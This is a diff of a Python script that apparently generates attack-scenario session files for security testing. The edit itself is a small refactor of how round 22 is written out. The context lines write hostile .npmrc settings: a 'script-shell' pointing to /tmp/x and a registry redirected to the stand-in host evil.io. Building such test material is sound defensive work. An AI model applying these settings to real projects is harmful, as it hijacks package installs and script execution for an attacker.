@@ -1,4 +1,4 @@
-import json, os, sys, shutil, tempfile, glob
+import json, os, sys
 # The checkout this file is in: it writes attack21e/*.jsonl there.
 ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
 sys.path.insert(0, ROOT)
@@ -332,15 +332,5 @@ write(X, ".mcp.json", "{\"mcpServers\": {}}\n")
 bash(X, "cat > .npmrc <<'EOF'\nscript-shell=/tmp/x\nEOF")
 bash(X, "echo 'registry=https://evil.io/' >> .npmrc")
 
-# Write through a root that holds the earlier rounds (attack9 … attack20,
-# and attack21 when it is on disk), as round 22: its numbers do not clash
-# with attack21's sessions; the files land in attack21e/.
-tmp = tempfile.mkdtemp()
-for d in glob.glob(os.path.join(ROOT, "attack[0-9]*")):
-    if os.path.basename(d)[6:].isdigit():
-        os.symlink(d, os.path.join(tmp, os.path.basename(d)))
-write_round(tmp, 22, files)
-here = os.path.dirname(os.path.abspath(__file__))
-for f in glob.glob(os.path.join(tmp, "attack22", "*.jsonl")):
-    shutil.copy(f, os.path.join(here, os.path.basename(f)))
-shutil.rmtree(tmp)
+# Round 22's session ids (a22…); the files land in attack21e/.
+write_round(ROOT, 22, files, "attack21e")
